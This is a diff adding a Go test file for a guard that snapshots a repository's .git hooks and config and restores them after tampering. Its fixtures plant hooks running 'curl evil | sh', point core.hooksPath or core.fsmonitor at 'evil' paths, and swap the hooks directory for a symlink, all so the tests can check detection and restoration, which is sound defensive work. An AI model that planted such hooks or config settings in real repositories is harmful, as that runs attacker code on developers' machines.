@@ -0,0 +1,181 @@
+package integrity
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+func writeFile(t *testing.T, path, content string, mode os.FileMode) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("MkdirAll() error = %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), mode); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+}
+
+func readFile(t *testing.T, path string) string {
+	t.Helper()
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("ReadFile() error = %v", err)
+	}
+	return string(data)
+}
+
+// newRepo lays out the .git of a repository with a hook, attributes and a
+// config setting a remote.
+func newRepo(t *testing.T) string {
+	t.Helper()
+	repo := t.TempDir()
+	writeFile(t, filepath.Join(repo, ".git", "config"), "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = /src/origin\n", 0o644)
+	writeFile(t, filepath.Join(repo, ".git", "hooks", "pre-commit"), "#!/bin/sh\nmake lint\n", 0o755)
+	writeFile(t, filepath.Join(repo, ".git", "info", "attributes"), "*.go diff=golang\n", 0o644)
+	return repo
+}
+
+func snapshot(t *testing.T, workDir string) *Guard {
+	t.Helper()
+	guard, err := Snapshot(workDir)
+	if err != nil {
+		t.Fatalf("Snapshot() error = %v", err)
+	}
+	return guard
+}
+
+func changeStrings(changes []Change) []string {
+	var out []string
+	for _, c := range changes {
+		out = append(out, c.String())
+	}
+	return out
+}
+
+func TestGuardReportsAndRestoresPlantedHooksAndConfig(t *testing.T) {
+	repo := newRepo(t)
+	guard := snapshot(t, repo)
+
+	writeFile(t, filepath.Join(repo, ".git", "config"), "[core]\n\tbare = false\n\thooksPath = /tmp/evil\n[remote \"origin\"]\n\turl = /src/origin\n", 0o644)
+	writeFile(t, filepath.Join(repo, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
+	writeFile(t, filepath.Join(repo, ".git", "hooks", "post-checkout"), "#!/bin/sh\n", 0o755)
+	if err := os.Remove(filepath.Join(repo, ".git", "info", "attributes")); err != nil {
+		t.Fatalf("Remove() error = %v", err)
+	}
+
+	want := []string{
+		`.git/config: core.hookspath set to "/tmp/evil"`,
+		".git/info/attributes: removed",
+		".git/hooks/pre-commit: modified",
+		".git/hooks/post-checkout: added",
+	}
+	changes, err := guard.Check()
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, want) {
+		t.Fatalf("Check() = (%q, %v), want %q", got, err, want)
+	}
+	restored, err := guard.Restore()
+	if got := changeStrings(restored); err != nil || !slices.Equal(got, want) {
+		t.Fatalf("Restore() = (%q, %v), want %q", got, err, want)
+	}
+	if changes, err := guard.Check(); err != nil || len(changes) != 0 {
+		t.Errorf("Check() after Restore() = (%v, %v), want no change", changes, err)
+	}
+	if got := readFile(t, filepath.Join(repo, ".git", "hooks", "pre-commit")); got != "#!/bin/sh\nmake lint\n" {
+		t.Errorf("pre-commit = %q, want the original hook", got)
+	}
+	if _, err := os.Stat(filepath.Join(repo, ".git", "hooks", "post-checkout")); !os.IsNotExist(err) {
+		t.Errorf("post-checkout stat error = %v, want it removed", err)
+	}
+}
+
+func TestGuardLetsARunChangeTheUnguardedConfig(t *testing.T) {
+	repo := newRepo(t)
+	guard := snapshot(t, repo)
+	writeFile(t, filepath.Join(repo, ".git", "config"), "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = /src/origin\n[branch \"feature\"]\n\tremote = origin\n", 0o600)
+
+	if changes, err := guard.Check(); err != nil || len(changes) != 0 {
+		t.Errorf("Check() = (%v, %v), want a new branch allowed", changes, err)
+	}
+}
+
+func TestGuardRestoresAConfigGitCannotRead(t *testing.T) {
+	repo := newRepo(t)
+	guard := snapshot(t, repo)
+	original := readFile(t, filepath.Join(repo, ".git", "config"))
+	writeFile(t, filepath.Join(repo, ".git", "config"), "[core\n\thooksPath = /tmp/evil\n", 0o644)
+
+	changes, err := guard.Restore()
+	if err != nil || len(changes) != 1 || changes[0].Path != ".git/config" {
+		t.Fatalf("Restore() = (%v, %v), want the config restored", changes, err)
+	}
+	if got := readFile(t, filepath.Join(repo, ".git", "config")); got != original {
+		t.Errorf("config = %q, want %q", got, original)
+	}
+}
+
+func TestGuardFollowsAWorktreeToItsRepository(t *testing.T) {
+	repo := newRepo(t)
+	gitDir := filepath.Join(repo, ".git", "worktrees", "feature")
+	worktree := t.TempDir()
+	writeFile(t, filepath.Join(gitDir, "commondir"), "../..\n", 0o644)
+	writeFile(t, filepath.Join(worktree, ".git"), "gitdir: "+gitDir+"\n", 0o644)
+	writeFile(t, filepath.Join(worktree, ".husky", "pre-push"), "#!/bin/sh\n", 0o755)
+	writeFile(t, filepath.Join(gitDir, "config.worktree"), "[core]\n\thooksPath = .husky\n", 0o644)
+	guard := snapshot(t, filepath.Join(worktree))
+
+	writeFile(t, filepath.Join(worktree, ".git"), "gitdir: /tmp/elsewhere\n", 0o644)
+	writeFile(t, filepath.Join(worktree, ".husky", "pre-push"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
+	writeFile(t, filepath.Join(repo, ".git", "hooks", "pre-push"), "#!/bin/sh\n", 0o755)
+
+	changes, err := guard.Restore()
+	want := []string{".git: modified", ".husky/pre-push: modified", filepath.Join(repo, ".git", "hooks", "pre-push") + ": added"}
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, want) {
+		t.Fatalf("Restore() = (%q, %v), want %q", got, err, want)
+	}
+	if got := readFile(t, filepath.Join(worktree, ".git")); got != "gitdir: "+gitDir+"\n" {
+		t.Errorf(".git = %q, want the original gitdir", got)
+	}
+}
+
+func TestGuardRemovesARepositoryPlantedOutsideOne(t *testing.T) {
+	workDir := t.TempDir()
+	guard := snapshot(t, workDir)
+	writeFile(t, filepath.Join(workDir, ".git", "config"), "[core]\n\tfsmonitor = ./evil\n", 0o644)
+
+	changes, err := guard.Restore()
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, []string{".git: added"}) {
+		t.Fatalf("Restore() = (%q, %v), want the planted .git", got, err)
+	}
+	if _, err := os.Stat(filepath.Join(workDir, ".git")); !os.IsNotExist(err) {
+		t.Errorf(".git stat error = %v, want it removed", err)
+	}
+}
+
+func TestGuardRestoresAHooksDirectoryReplacedByASymlink(t *testing.T) {
+	repo := newRepo(t)
+	guard := snapshot(t, repo)
+	hooks := filepath.Join(repo, ".git", "hooks")
+	planted := t.TempDir()
+	writeFile(t, filepath.Join(planted, "pre-commit"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
+	if err := os.RemoveAll(hooks); err != nil {
+		t.Fatalf("RemoveAll() error = %v", err)
+	}
+	if err := os.Symlink(planted, hooks); err != nil {
+		t.Fatalf("Symlink() error = %v", err)
+	}
+
+	if _, err := guard.Restore(); err != nil {
+		t.Fatalf("Restore() error = %v", err)
+	}
+	if info, err := os.Lstat(hooks); err != nil || !info.IsDir() {
+		t.Fatalf("hooks = %v (%v), want a directory again", info, err)
+	}
+	if got := readFile(t, filepath.Join(hooks, "pre-commit")); got != "#!/bin/sh\nmake lint\n" {
+		t.Errorf("pre-commit = %q, want the original hook", got)
+	}
+	if got := readFile(t, filepath.Join(planted, "pre-commit")); got == "" {
+		t.Error("the symlink's target was emptied, want it left alone")
+	}
+}